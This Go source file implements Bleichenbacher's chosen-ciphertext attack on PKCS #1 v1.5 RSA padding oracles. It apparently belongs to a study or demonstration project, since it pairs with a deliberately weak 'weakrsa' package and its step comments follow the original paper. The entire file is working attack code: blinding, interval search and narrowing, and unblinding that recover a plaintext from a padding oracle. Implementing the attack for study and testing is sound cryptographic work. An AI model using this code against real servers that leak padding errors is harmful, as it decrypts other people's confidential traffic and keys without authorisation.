// Package oracleattack recovers an RSA plaintext from a PKCS #1 v1.5 padding
// oracle, following Daniel Bleichenbacher's "Chosen Ciphertext Attacks
// Against Protocols Based on the RSA Encryption Standard PKCS #1" (CRYPTO
// '98). The steps below are direct references to this article.
package oracleattack

import (
	"crypto/rand"
	"io"
	"log"
	"math/big"

	"github.com/pkg/errors"

	"git.kudelski.com/go-padding-oracle/weakrsa"
)

// A few useful big.Int :
var (
	one   = big.NewInt(1)
	two   = big.NewInt(2)
	three = big.NewInt(3)
)

var (
	// ErrUnsupportedModulus is returned for moduli too short to hold a padded
	// block.
	ErrUnsupportedModulus = errors.New("oracleattack: modulus too small")
	// ErrTooManyQueries is returned when Options.MaxQueries is exhausted.
	ErrTooManyQueries = errors.New("oracleattack: query budget exhausted")
	// ErrNoInterval is returned if no candidate plaintext is left, which only
	// happens with an oracle that lies.
	ErrNoInterval = errors.New("oracleattack: no candidate interval left")
)

// Oracle is an interface to allow anyone to easily provide its own oracle
// queries. *weakrsa.PaddingOracle implements it.
type Oracle interface {
	// CheckPadding reports whether the ciphertext, a big-endian integer as
	// long as the modulus, decrypts to a block starting with 0x00 0x02.
	CheckPadding(ciphertext []byte) bool
}

// Options tunes an attack. The zero value is usable.
type Options struct {
	// Logger receives progress lines, nothing is logged if nil.
	Logger *log.Logger
	// MaxQueries bounds the number of oracle queries, 0 means no bound.
	// Without a bound, an oracle that never answers true, such as a
	// weakrsa.PaddingOracle whose block size is not the modulus length,
	// makes the blinding step loop forever.
	MaxQueries int
	// Random is used for blinding, crypto/rand by default.
	Random io.Reader
}

// Result is what the attack learned.
type Result struct {
	// Block is the whole padded plaintext, as long as the modulus.
	Block []byte
	// Queries is the number of times the oracle was asked.
	Queries int
}

// Message strips the padding from the recovered block.
func (r *Result) Message() ([]byte, error) {
	return weakrsa.DecodePadded(r.Block)
}

type attack struct {
	oracle     Oracle
	log        *log.Logger
	maxQueries int
	random     io.Reader

	e, n   *big.Int
	k      int
	twoB   *big.Int
	threeB *big.Int

	// c is the blinded ciphertext c0*s0^e mod n
	c *big.Int
	s *big.Int
	m []interval

	queries int
}

// Attack decrypts ciphertext using only the public key and the oracle.
func Attack(ciphertext []byte, pub weakrsa.PublicKey, o Oracle, opts *Options) (*Result, error) {
	if opts == nil {
		opts = &Options{}
	}
	x := &attack{
		oracle:     o,
		log:        opts.Logger,
		maxQueries: opts.MaxQueries,
		random:     opts.Random,
		e:          new(big.Int).Set(pub.E),
		n:          new(big.Int).Set(pub.N),
	}
	if x.log == nil {
		x.log = log.New(io.Discard, "", 0)
	}
	if x.random == nil {
		x.random = rand.Reader
	}

	// We setup k and B
	x.k = (x.n.BitLen() + 7) / 8
	if x.k < 4 {
		return nil, errors.Wrapf(ErrUnsupportedModulus, "%d bytes", x.k)
	}
	B := new(big.Int).Lsh(one, uint(8*(x.k-2)))
	x.twoB = new(big.Int).Mul(two, B)
	x.threeB = new(big.Int).Mul(three, B)

	c0 := new(big.Int).SetBytes(ciphertext)
	if c0.Cmp(x.n) >= 0 {
		return nil, errors.New("oracleattack: ciphertext not below the modulus")
	}

	// Step 1: blinding
	s0, err := x.blind(c0)
	if err != nil {
		return nil, err
	}
	x.log.Println("Step 1 finished: s0 =", s0, "found in", x.queries, "queries")

	// M0 = {[2B, 3B-1]}
	x.m = []interval{{new(big.Int).Set(x.twoB), new(big.Int).Sub(x.threeB, one)}}

	for i := 1; ; i++ {
		switch {
		case i == 1:
			err = x.searchStart()
		case len(x.m) > 1:
			err = x.searchMany()
		default:
			err = x.searchOne()
		}
		if err != nil {
			return nil, err
		}

		// Step 3
		if err := x.narrow(); err != nil {
			return nil, err
		}

		// Step 4
		if len(x.m) == 1 && x.m[0].lo.Cmp(x.m[0].hi) == 0 {
			x.log.Println("Step 4 reached after", i, "iterations and", x.queries, "queries")
			return x.unblind(x.m[0].lo, s0)
		}
	}
}

// tryOracle is a function which "ask the oracle" about c*s^e mod n
func (x *attack) tryOracle(c, s *big.Int) (bool, error) {
	if x.maxQueries > 0 && x.queries >= x.maxQueries {
		return false, errors.Wrapf(ErrTooManyQueries, "after %d queries", x.queries)
	}
	// We increment our counter
	x.queries++

	se, err := weakrsa.ModExp(s, x.e, x.n)
	if err != nil {
		return false, err
	}
	cse := se.Mul(se, c)
	cse.Mod(cse, x.n)

	return x.oracle.CheckPadding(leftPad(cse.Bytes(), x.k)), nil
}

// blind looks for s0 such that c0*s0^e is PKCS conforming, s0 = 1 being
// enough when c0 was itself produced by a PKCS #1 v1.5 encryption.
func (x *attack) blind(c0 *big.Int) (*big.Int, error) {
	s0 := big.NewInt(1)
	for {
		ok, err := x.tryOracle(c0, s0)
		if err != nil {
			return nil, err
		}
		if ok {
			se, err := weakrsa.ModExp(s0, x.e, x.n)
			if err != nil {
				return nil, err
			}
			x.c = se.Mul(se, c0)
			x.c.Mod(x.c, x.n)
			return s0, nil
		}

		s0, err = rand.Int(x.random, x.n)
		if err != nil {
			return nil, errors.Wrap(err, "oracleattack: drawing blinding value")
		}
		if s0.Sign() == 0 {
			s0.SetInt64(1)
		}
	}
}

// findS returns the smallest s >= sMin, and <= sMax if sMax is not nil, for
// which c*s^e is PKCS conforming. It returns nil when sMax was reached.
func (x *attack) findS(sMin, sMax *big.Int) (*big.Int, error) {
	for s := new(big.Int).Set(sMin); sMax == nil || s.Cmp(sMax) <= 0; s.Add(s, one) {
		ok, err := x.tryOracle(x.c, s)
		if err != nil {
			return nil, err
		}
		if ok {
			return s, nil
		}
	}
	return nil, nil
}

// Step 2.a: starting the search
func (x *attack) searchStart() error {
	s, err := x.findS(mustDivCeil(x.n, x.threeB), nil)
	if err != nil {
		return err
	}
	x.s = s
	x.log.Println("Step 2.a finished: s1 =", x.s, "after", x.queries, "queries")
	return nil
}

// Step 2.b: searching with more than one interval left
func (x *attack) searchMany() error {
	s, err := x.findS(new(big.Int).Add(x.s, one), nil)
	if err != nil {
		return err
	}
	x.s = s
	return nil
}

// Step 2.c: searching with one interval left
func (x *attack) searchOne() error {
	a, b := x.m[0].lo, x.m[0].hi

	// r >= 2*(b*s - 2B)/n
	r := new(big.Int).Mul(b, x.s)
	r.Sub(r, x.twoB)
	r.Mul(r, two)
	r = mustDivCeil(r, x.n)

	rn := new(big.Int)
	for {
		rn.Mul(r, x.n)

		// (2B + rn)/b <= s < (3B + rn)/a
		sMin := mustDivCeil(new(big.Int).Add(x.twoB, rn), b)
		sMax := mustDivCeil(new(big.Int).Add(x.threeB, rn), a)
		sMax.Sub(sMax, one)

		if sMin.Cmp(sMax) <= 0 {
			s, err := x.findS(sMin, sMax)
			if err != nil {
				return err
			}
			if s != nil {
				x.s = s
				return nil
			}
		}
		r.Add(r, one)
	}
}

// Step 3: narrowing the set of solutions
func (x *attack) narrow() error {
	var next []interval
	rn := new(big.Int)

	for _, m := range x.m {
		// (a*s - 3B + 1)/n <= r <= (b*s - 2B)/n
		rMin := new(big.Int).Mul(m.lo, x.s)
		rMin.Sub(rMin, x.threeB)
		rMin.Add(rMin, one)
		rMin = mustDivCeil(rMin, x.n)

		rMax := new(big.Int).Mul(m.hi, x.s)
		rMax.Sub(rMax, x.twoB)
		rMax.Div(rMax, x.n)

		for r := rMin; r.Cmp(rMax) <= 0; r.Add(r, one) {
			rn.Mul(r, x.n)

			// max(a, ceil((2B + rn)/s))
			lo := mustDivCeil(new(big.Int).Add(x.twoB, rn), x.s)
			if lo.Cmp(m.lo) < 0 {
				lo.Set(m.lo)
			}

			// min(b, floor((3B - 1 + rn)/s))
			hi := new(big.Int).Add(x.threeB, rn)
			hi.Sub(hi, one)
			hi.Div(hi, x.s)
			if hi.Cmp(m.hi) > 0 {
				hi.Set(m.hi)
			}

			if lo.Cmp(hi) <= 0 {
				next = union(next, interval{lo, hi})
			}
		}
	}

	if len(next) == 0 {
		return errors.Wrapf(ErrNoInterval, "after %d queries", x.queries)
	}
	x.m = next
	return nil
}

// Step 4: computing the solution m = a*s0^-1 mod n
func (x *attack) unblind(a, s0 *big.Int) (*Result, error) {
	inv, err := weakrsa.ModInverse(s0, x.n)
	if err != nil {
		return nil, errors.Wrap(err, "oracleattack: blinding value not invertible")
	}
	m := inv.Mul(inv, a)
	m.Mod(m, x.n)

	return &Result{
		Block:   leftPad(m.Bytes(), x.k),
		Queries: x.queries,
	}, nil
}
